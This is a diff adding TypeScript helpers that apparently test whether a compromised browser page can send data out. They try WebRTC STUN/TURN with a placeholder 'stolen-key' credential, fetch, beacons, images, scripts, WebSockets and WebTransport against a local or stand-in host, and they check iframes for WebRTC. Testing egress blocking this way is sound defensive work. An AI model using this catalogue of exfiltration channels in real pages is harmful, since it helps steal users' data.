@@ -1,0 +1,136 @@
+/**
+ * What a page that was taken over tries in order to send data. The functions run in a page, so each is
+ * self-contained.
+ */
+
+/** Where `tryWebRtc` sends to. */
+export interface Ports {
+  udpPort: number;
+  tcpPort: number;
+}
+
+/**
+ * Sends over WebRTC with STUN and TURN, over UDP and TCP, and to candidates of its own; resolves when Chromium has
+ * gathered all candidates.
+ * @returns whether the page has WebRTC
+ */
+export async function tryWebRtc({ udpPort, tcpPort }: Ports): Promise<boolean> {
+  if (typeof RTCPeerConnection === 'undefined') return false;
+  const stolen = { username: 'stolen-key', credential: 'x' };
+  const first = new RTCPeerConnection({
+    iceServers: [
+      { urls: `stun:127.0.0.1:${udpPort}` },
+      { urls: `turn:127.0.0.1:${udpPort}`, ...stolen },
+      { urls: `turn:127.0.0.1:${tcpPort}?transport=tcp`, ...stolen },
+    ],
+  });
+  const second = new RTCPeerConnection();
+  // Chromium closes a connection that nothing refers to.
+  Object.assign(window, { kept: [first, second] });
+  first.createDataChannel('x');
+  await first.setLocalDescription(await first.createOffer());
+  await second.setRemoteDescription(first.localDescription!);
+  await second.setLocalDescription(await second.createAnswer());
+  await first.setRemoteDescription(second.localDescription!);
+  for (const candidate of [
+    `candidate:1 1 udp 2122260223 127.0.0.1 ${udpPort} typ host generation 0`,
+    `candidate:2 1 tcp 1518280447 127.0.0.1 ${tcpPort} typ host tcptype passive generation 0`,
+    `candidate:3 1 udp 2122260223 webrtc.example.test ${udpPort} typ host generation 0`,
+  ]) {
+    await first.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
+  }
+  await new Promise<void>((gathered) => {
+    // STUN and TURN servers that never answer take Chromium 10 seconds.
+    const timer = setTimeout(gathered, 3_000);
+    const look = (): void => {
+      if (first.iceGatheringState !== 'complete') return;
+      clearTimeout(timer);
+      gathered();
+    };
+    first.addEventListener('icegatheringstatechange', look);
+    look();
+  });
+  return true;
+}
+
+/**
+ * Makes every kind of request.
+ * @returns the kinds that succeeded
+ */
+export async function tryRequests({ origin, udpPort }: { origin: string; udpPort: number }) {
+  const loaded = (name: string, properties: object): Promise<unknown> =>
+    new Promise((resolve, reject) => {
+      const element = document.createElement(name);
+      element.onload = resolve;
+      element.onerror = reject;
+      Object.assign(element, properties);
+      document.body.append(element);
+    });
+  const opened = (target: EventTarget): Promise<unknown> =>
+    new Promise((resolve, reject) => {
+      target.addEventListener('open', resolve);
+      target.addEventListener('error', reject);
+    });
+  const attempts: Record<string, () => Promise<unknown>> = {
+    fetch: () => fetch(`${origin}/fetch`, { mode: 'no-cors' }),
+    'fetch that outlives the page': () =>
+      fetch(`${origin}/kept`, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }),
+    image: () => loaded('img', { src: `${origin}/image` }),
+    style: () => loaded('link', { rel: 'stylesheet', href: `${origin}/style` }),
+    script: () => loaded('script', { src: `${origin}/script` }),
+    prefetch: () => loaded('link', { rel: 'prefetch', href: `${origin}/prefetch` }),
+    events: () => opened(new EventSource(`${origin}/events`)),
+    socket: () => opened(new WebSocket(origin.replace('http', 'ws'))),
+    transport: () =>
+      typeof WebTransport === 'undefined'
+        ? Promise.reject(new Error('not in an insecure page'))
+        : new WebTransport(`https://127.0.0.1:${udpPort}/`).ready,
+  };
+  navigator.sendBeacon(`${origin}/beacon`, 'x');
+  const preconnect = Object.assign(document.createElement('link'), { rel: 'preconnect' });
+  preconnect.href = origin;
+  document.head.append(preconnect);
+  const results = await Promise.all(
+    Object.entries(attempts).map(async ([kind, attempt]) =>
+      attempt().then(
+        () => [kind],
+        () => [],
+      ),
+    ),
+  );
+  return results.flat();
+}
+
+/**
+ * Looks for WebRTC in the page and in frames of every kind. Needs a page without its content policy, because only
+ * then a frame with an origin of its own runs a script.
+ * @returns the names of the windows that have it, and its type in the frame with an origin of its own
+ */
+export async function findWebRtc(): Promise<{ found: string[]; inside: unknown }> {
+  const frame = (attributes: Record<string, string>): Window => {
+    const element = document.createElement('iframe');
+    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+    document.body.append(element);
+    return element.contentWindow!;
+  };
+  const written = frame({});
+  written.document.open();
+  written.document.close();
+  const windows: Record<string, Window> = {
+    page: window,
+    blank: frame({}),
+    'without scripts': frame({ sandbox: 'allow-same-origin' }),
+    written,
+  };
+  const inside = await new Promise((resolve) => {
+    window.addEventListener('message', ({ data }) => resolve(data));
+    frame({
+      sandbox: 'allow-scripts',
+      srcdoc: '<script>parent.postMessage(typeof RTCPeerConnection, "*")</script>',
+    });
+  });
+  const names = Object.keys(windows).filter(
+    (name) => 'RTCPeerConnection' in windows[name]! || 'webkitRTCPeerConnection' in windows[name]!,
+  );
+  return { found: names, inside };
+}
